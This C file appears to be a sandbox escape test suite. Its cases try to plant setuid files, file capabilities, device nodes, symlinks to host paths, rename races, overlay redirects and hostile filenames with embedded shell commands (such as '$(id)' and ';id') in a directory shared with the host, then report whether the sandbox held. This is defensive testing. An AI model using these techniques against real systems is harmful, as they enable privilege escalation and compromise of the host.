// What a sandbox leaves in a directory that it shares with the host, for someone outside to step on.
#include "attack.h"

#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <time.h>

static void place(char *path, size_t size, int count, char **arguments, const char *name) {
    snprintf(path, size, "%s/%s", text_argument(count, arguments, 0), name);
    unlink(path);
}

static void check_set_id(const char *path, const char *way) {
    struct stat status;
    if (lstat(path, &status) == 0 && (status.st_mode & (S_ISUID | S_ISGID)))
        breached("%s made %s with mode %o", way, path, status.st_mode & 07777);
}

ATTACK(plant_set_user_id, "plant-set-user-id",
       "makes a set-user-ID file on a shared directory by every call (DIRECTORY)") {
    char path[4096], folder[4096];
    place(path, sizeof path, count, arguments, "set-id");
    int fd = open(path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (fd < 0) skipped("%s: %s", path, strerror(errno));
    fchmod(fd, 06755), check_set_id(path, "fchmod");
    chmod(path, 06755), check_set_id(path, "chmod");
    fchmodat(AT_FDCWD, path, 06755, 0), check_set_id(path, "fchmodat");
    syscall(SYS_fchmodat2, AT_FDCWD, path, 06755, 0), check_set_id(path, "fchmodat2");
    syscall(SYS_fchmodat2, fd, "", 06755, AT_EMPTY_PATH), check_set_id(path, "fchmodat2 by descriptor");
    // The mode is an unsigned short in the kernel: bits above it must not fool a filter.
    syscall(SYS_fchmodat, AT_FDCWD, path, 06755 | 1L << 16), check_set_id(path, "fchmodat with a high bit");
    syscall(SYS_fchmod, fd, 06755 | 1L << 32), check_set_id(path, "fchmod with a high bit");
    close(fd);
    unlink(path);
    umask(0);
    fd = open(path, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 06755);
    check_set_id(path, "open");
    if (fd >= 0) close(fd);
    unlink(path);
    uint64_t how[3] = {O_RDWR | O_CREAT | O_EXCL, 06755, 0};
    fd = (int)syscall(SYS_openat2, AT_FDCWD, path, how, sizeof how);
    check_set_id(path, "openat2");
    if (fd >= 0) close(fd);
    unlink(path);
    fd = open(text_argument(count, arguments, 0), O_TMPFILE | O_RDWR | O_CLOEXEC, 06755);
    if (fd >= 0) {
        char link[64];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        linkat(AT_FDCWD, link, AT_FDCWD, path, AT_SYMLINK_FOLLOW), check_set_id(path, "O_TMPFILE");
        close(fd);
    }
    unlink(path);
    mknod(path, S_IFREG | 06755, 0), check_set_id(path, "mknod");
    unlink(path);
#ifdef SYS_creat
    fd = (int)syscall(SYS_creat, path, 06755);
    check_set_id(path, "creat");
    if (fd >= 0) close(fd);
    unlink(path);
#endif
    place(folder, sizeof folder, count, arguments, "set-id-directory");
    rmdir(folder);
    mkdir(folder, 07777), check_set_id(folder, "mkdir");
    rmdir(folder);
    contained("no call made one");
}

ATTACK(plant_capability, "plant-capability", "puts file capabilities on a shared file (DIRECTORY)") {
    char path[4096];
    place(path, sizeof path, count, arguments, "capable");
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    if (fd < 0) skipped("%s: %s", path, strerror(errno));
    // Version 2: valid outside every user namespace.
    uint32_t version2[5] = {0x02000001, 0xffffffff, 0, 0xff, 0};
    int result = setxattr(path, "security.capability", version2, sizeof version2, 0);
    int error = errno;
    unlink(path);
    errno = error;
    judge(result, "security.capability", "set");
}

ATTACK(plant_root_owned, "plant-root-owned", "gives a shared file to user 0; the host looks at its owner (DIRECTORY)") {
    char path[4096];
    place(path, sizeof path, count, arguments, "root-owned");
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    if (fd < 0) skipped("%s: %s", path, strerror(errno));
    int result = fchown(fd, 0, 0);
    contained("chown to 0: %s; the host must see another owner", result == 0 ? "done" : strerror(errno));
}

ATTACK(plant_device, "plant-device", "makes a device node on a shared directory (DIRECTORY)") {
    char path[4096];
    place(path, sizeof path, count, arguments, "device");
    if (mknod(path, S_IFCHR | 0666, (dev_t)(1 << 8 | 3)) == 0) {
        unlink(path);
        breached("made a character device");
    }
    int error = errno;
    if (mknod(path, S_IFBLK | 0666, (dev_t)(254 << 8)) == 0) {
        unlink(path);
        breached("made a block device");
    }
    errno = error;
    refused("mknod");
}

ATTACK(plant_immutable, "plant-immutable",
       "makes a shared file immutable, so that its owner cannot remove it (DIRECTORY)") {
    char path[4096];
    place(path, sizeof path, count, arguments, "immutable");
    int fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0644), flags = 0;
    if (fd < 0) skipped("%s: %s", path, strerror(errno));
    ioctl(fd, FS_IOC_GETFLAGS, &flags);
    int immutable = flags | FS_IMMUTABLE_FL;
    int result = ioctl(fd, FS_IOC_SETFLAGS, &immutable);
    int error = errno;
    if (result == 0) ioctl(fd, FS_IOC_SETFLAGS, &flags);
    unlink(path);
    errno = error;
    judge(result, "FS_IOC_SETFLAGS", "the file was immutable");
}

ATTACK(file_flags, "file-flags", "changes file system flags of its own file by ioctl, plain and with high bits") {
    char path[4096];
    snprintf(path, sizeof path, "%s/flags", scratch_directory());
    int fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0644), flags = FS_NODUMP_FL;
    if (fd < 0) skipped("%s: %s", path, strerror(errno));
    int result = ioctl(fd, FS_IOC_SETFLAGS, &flags);
    if (result < 0) result = (int)syscall(SYS_ioctl, fd, (unsigned long)FS_IOC_SETFLAGS | 1UL << 32, &flags);
    int error = errno;
    unlink(path);
    errno = error;
    judge(result, "FS_IOC_SETFLAGS", "obeyed");
}

ATTACK(freeze, "filesystem-freeze", "freezes the file system of a shared directory (DIRECTORY)") {
    int fd = open(text_argument(count, arguments, 0), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0) skipped("%s", strerror(errno));
    // Thawing something that is not frozen is harmless: EINVAL says that the privilege was there.
    if (ioctl(fd, FITHAW, 0) < 0 && errno != EINVAL) refused("FITHAW");
    breached("freezing and thawing is allowed");
}

/// Links in a shared directory that lead to host paths; the host then reads through its file interface.
ATTACK(plant_links, "plant-links",
       "plants links to a host file; the host then uses its file interface (DIRECTORY TARGET)") {
    const char *directory = text_argument(count, arguments, 0), *target = text_argument(count, arguments, 1);
    char path[4096], up[4096] = "";
    for (int i = 0; i < 32; i++) strcat(up, "../");
    strncat(up, target + 1, sizeof up - strlen(up) - 1);
    int made = 0;
    snprintf(path, sizeof path, "%s/absolute", directory);
    made += symlink(target, path) == 0;
    snprintf(path, sizeof path, "%s/relative", directory);
    made += symlink(up, path) == 0;
    snprintf(path, sizeof path, "%s/magic", directory);
    made += symlink("/proc/1/root", path) == 0;
    snprintf(path, sizeof path, "%s/chain", directory);
    made += symlink("absolute", path) == 0;
    snprintf(path, sizeof path, "%s/loop", directory);
    made += symlink("loop", path) == 0;
    char *slash = strrchr(up, '/');
    if (slash) *slash = 0;
    snprintf(path, sizeof path, "%s/parent", directory);
    made += symlink(up, path) == 0;
    contained("planted %d links", made);
}

ATTACK(swap_links, "plant-swapping-link",
       "swaps a file and a link to the host for SECONDS (DIRECTORY TARGET SECONDS)") {
    const char *directory = text_argument(count, arguments, 0), *target = text_argument(count, arguments, 1);
    time_t end = time(NULL) + number_argument(count, arguments, 2);
    char file[4096], link[4096];
    snprintf(file, sizeof file, "%s/swapping", directory);
    snprintf(link, sizeof link, "%s/swapped", directory);
    int fd = open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0 || symlink(target, link) < 0) skipped("%s: %s", directory, strerror(errno));
    while (time(NULL) < end)
        syscall(SYS_renameat2, AT_FDCWD, file, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
    contained("swapped them as often as it could");
}

ATTACK(plant_special, "plant-special-files",
       "plants a FIFO, a socket and a device; the host then reads them (DIRECTORY)") {
    char path[4096];
    place(path, sizeof path, count, arguments, "fifo");
    int made = mkfifo(path, 0666) == 0;
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    snprintf(address.sun_path, sizeof address.sun_path, "%.90s/socket", arguments[0]);
    made += fd >= 0 && bind(fd, (struct sockaddr *)&address, sizeof address) == 0;
    place(path, sizeof path, count, arguments, "whiteout");
    made += mknod(path, S_IFCHR | 0600, 0) == 0;
    contained("planted %d", made);
}

ATTACK(plant_names, "plant-names", "plants files with hostile names; the host then lists them (DIRECTORY)") {
    static const char *const names[] = {
        "new\nline", "-rf", "\xff\xfe\xfd", "\033[2J\033]0;owned\007", " ", "a\tb", "$(id)", "`id`", ";id", "\302\205",
        "..\\..\\x", "%s%n", "CON", "\342\200\256gnp.exe"};
    char path[4096], longest[256];
    int made = 0;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "%s/%s", text_argument(count, arguments, 0), names[i]);
        int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd < 0) continue;
        made++;
        close(fd);
    }
    memset(longest, 'x', 255);
    longest[255] = 0;
    // Deeper than PATH_MAX: reachable only step by step.
    if (chdir(arguments[0]) == 0)
        for (int i = 0; i < 20 && mkdir(longest, 0755) == 0 && chdir(longest) == 0; i++) made++;
    contained("planted %d names", made);
}

ATTACK(plant_sparse, "plant-sparse-file", "plants a file of 8 EiB that holds nothing (DIRECTORY)") {
    char path[4096];
    place(path, sizeof path, count, arguments, "sparse");
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0) skipped("%s: %s", path, strerror(errno));
    off_t size = 0x7fffffffffffffff;
    while (size > 1 && ftruncate(fd, size) < 0) size /= 2;
    contained("a file of %lld bytes", (long long)size);
}

ATTACK(overlay_attributes, "overlay-attributes",
       "forges overlay attributes to see other parts of the lower layer (DIRECTORY)") {
    char path[4096];
    place(path, sizeof path, count, arguments, "redirected");
    mkdir(path, 0755);
    static const char *const names[] = {
        "user.overlay.redirect", "trusted.overlay.redirect", "user.overlay.opaque", "trusted.overlay.opaque",
        "user.overlay.metacopy", "security.overlay.redirect"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) setxattr(path, names[i], "/etc", 4, 0);
    char inside[4200];
    snprintf(inside, sizeof inside, "%s/passwd", path);
    if (access(inside, F_OK) == 0) breached("%s shows /etc", path);
    contained("no attribute redirected anything");
}
